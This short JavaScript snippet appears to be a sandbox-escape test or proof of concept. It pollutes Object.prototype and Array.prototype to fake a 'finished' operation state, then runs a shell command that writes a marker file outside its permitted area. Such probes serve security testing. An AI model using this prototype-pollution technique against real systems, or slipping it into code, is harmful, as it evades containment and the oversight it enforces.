import { server } from "drover/operations";
Object.prototype.type = "finished";
Object.prototype.finished = { outcome: "done" };
Object.prototype.lane = "operations";
Array.prototype.toJSON = () => "ESCAPED";
await server.shell({ commands: ["touch OUTSIDE/written"] });
